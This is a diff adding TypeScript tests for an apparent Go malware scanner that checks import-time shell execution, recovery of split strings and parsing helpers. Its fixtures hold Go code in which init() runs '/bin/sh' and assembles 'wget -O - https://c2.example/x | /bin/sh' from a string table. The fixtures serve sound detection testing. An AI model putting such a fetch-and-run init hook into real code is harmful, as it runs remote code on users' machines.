@@ -1,0 +1,127 @@
+// The scan parses only what rules and recovery need (scan-worker.ts): these tests pin what that must
+// not change — contexts across files, recovery across files — and the text-level helpers behind it.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtempSync, mkdirSync, writeFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, dirname } from 'node:path';
+import { loadRules, defaultRulesDir } from '../src/static/rules/load.js';
+import { scanModule } from '../src/static/scan.js';
+import { fileLayout, callMentionsOf } from '../src/static/decls.js';
+import { foldLiteralChains } from '../src/static/scan-worker.js';
+import { textualReach } from '../src/static/reach-text.js';
+import { wordOccurs } from '../src/static/rules/prefilter.js';
+
+const rules = loadRules([defaultRulesDir()]);
+
+function makeModule(files: Record<string, string>): string {
+  const dir = mkdtempSync(join(tmpdir(), 'gosnare-focus-'));
+  for (const [rel, content] of Object.entries(files)) {
+    mkdirSync(dirname(join(dir, rel)), { recursive: true });
+    writeFileSync(join(dir, rel), content);
+  }
+  return dir;
+}
+
+test('an init() in a file no rule admits still makes a function in another file import-time', async () => {
+  const dir = makeModule({
+    'go.mod': 'module example.test/m\n',
+    // no rule word here: this file is only parsed for its values and init
+    'boot.go': 'package m\n\nfunc init() {\n\tsetup()\n}\n\nfunc setup() {\n\tstart()\n}\n',
+    'run.go': 'package m\n\nimport "os/exec"\n\nfunc start() {\n\texec.Command("/bin/sh", "-c", "id").Start()\n}\n\nfunc Other() {\n\texec.Command("git", "status").Run()\n}\n',
+  });
+  try {
+    const result = await scanModule(dir, { rules, workers: 0 });
+    const shell = result.findings.filter((f) => f.file === 'run.go' && f.line === 6);
+    assert.ok(shell.length > 0, 'the shell call is found');
+    assert.ok(shell.every((f) => f.context === 'reachable-from-init'), shell.map((f) => `${f.ruleId}:${f.context}`).join(' '));
+    assert.ok(shell.some((f) => f.ruleId === 'import-time-exec-shell' || f.ruleId === 'import-time-exec'), shell.map((f) => f.ruleId).join(' '));
+    const other = result.findings.filter((f) => f.file === 'run.go' && f.line === 10);
+    assert.ok(other.every((f) => f.context === 'function'));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('a string table in a file no rule admits is still read by recovery in another file', async () => {
+  const dir = makeModule({
+    'go.mod': 'module example.test/m\n',
+    'table.go': 'package m\n\nvar tbl = []string{"wget ", "-O - ", "https://c2.example/x", " | /bin/sh"}\n\nfunc Unrelated() int { return 1 }\n',
+    'run.go': 'package m\n\nimport "os/exec"\n\nfunc init() {\n\texec.Command("/bin/sh", "-c", tbl[0]+tbl[1]+tbl[2]+tbl[3]).Start()\n}\n',
+  });
+  try {
+    const result = await scanModule(dir, { rules, workers: 0 });
+    const hits = result.findings.flatMap((f) => f.recoveredStrings);
+    assert.ok(hits.some((s) => s.includes('wget -O - https://c2.example/x | /bin/sh')), hits.join(' | '));
+    assert.ok(result.iocs.domains.includes('c2.example'));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('fileLayout splits top-level declarations with their comments, not keywords inside bodies or literals', () => {
+  const src = [
+    'package p',
+    '',
+    'import (',
+    '\t"fmt"',
+    ')',
+    '',
+    '// Doc of A.',
+    '//go:noinline',
+    'func A() { s := "func B() {}"; _ = s }',
+    '',
+    'var f =',
+    'func() { fmt.Println(`var x = 1`) }',
+    '',
+    'var (',
+    '\ta, b = 1, 2',
+    '\tc    int',
+    ')',
+    '',
+    'func (r *T[K]) M() {}',
+    'type T[K any] struct{}',
+  ].join('\n');
+  const layout = fileLayout(src);
+  assert.equal(src.slice(0, layout.headerEnd).trimEnd(), 'package p\n\nimport (\n\t"fmt"\n)');
+  assert.deepEqual(
+    layout.chunks.map((c) => [c.kind, c.names.join(','), c.receiver ?? '']),
+    [
+      ['func', 'A', ''],
+      ['var', 'f', ''],
+      ['var', 'a,b,c', ''],
+      ['method', 'M', 'T'],
+      ['type', 'T', ''],
+    ],
+  );
+  assert.ok(src.slice(layout.chunks[0]!.start, layout.chunks[0]!.end).includes('//go:noinline'));
+  // chunks tile the file after the header
+  layout.chunks.forEach((c, i) => assert.equal(c.start, i === 0 ? layout.headerEnd : layout.chunks[i - 1]!.end));
+  assert.equal(layout.chunks.at(-1)!.end, src.length);
+});
+
+test('text reachability: calls and arguments in var initializers count, stored values do not', () => {
+  const m = callMentionsOf('var x = run(f, g)\nvar table = map[int]op{1: h, 2: k}\nvar y = func() { q() }()');
+  assert.ok(m.bare.has('run') && m.bare.has('f') && m.bare.has('g') && m.bare.has('q'));
+  assert.ok(!m.bare.has('h') && !m.bare.has('k'));
+  const src = 'package p\n\nfunc init() { one() }\n\nfunc one() {}\n\nfunc two() {}\n\nvar handlers = map[string]handler{"x": two}\n';
+  const reach = textualReach([{ rel: 'a.go', source: src }]);
+  assert.equal(reach('a.go', src.indexOf('func one')), true);
+  assert.equal(reach('a.go', src.indexOf('func two')), false);
+});
+
+test('literal chains are folded from text, comments skipped', () => {
+  const folded = foldLiteralChains('package p\n// "a" + "b"\nvar c = "/bi" +\n\t"n/" + `sh`\nvar d = "x\\x41" + "y"\n');
+  assert.deepEqual(folded, [
+    { value: '/bin/sh', line: 3 },
+    { value: 'xAy', line: 5 },
+  ]);
+});
+
+test('whole-token needles: identifiers only match whole, non-ASCII neighbours never hide a match', () => {
+  assert.equal(wordOccurs('x.GetConfig()', 'Get'), false);
+  assert.equal(wordOccurs('x.Get(u)', 'Get'), true);
+  assert.equal(wordOccurs('bytes.Buffer', 'byte'), false);
+  assert.equal(wordOccurs('[]byte{1}', 'byte'), true);
+  assert.equal(wordOccurs('éGet', 'Get'), true);
+});
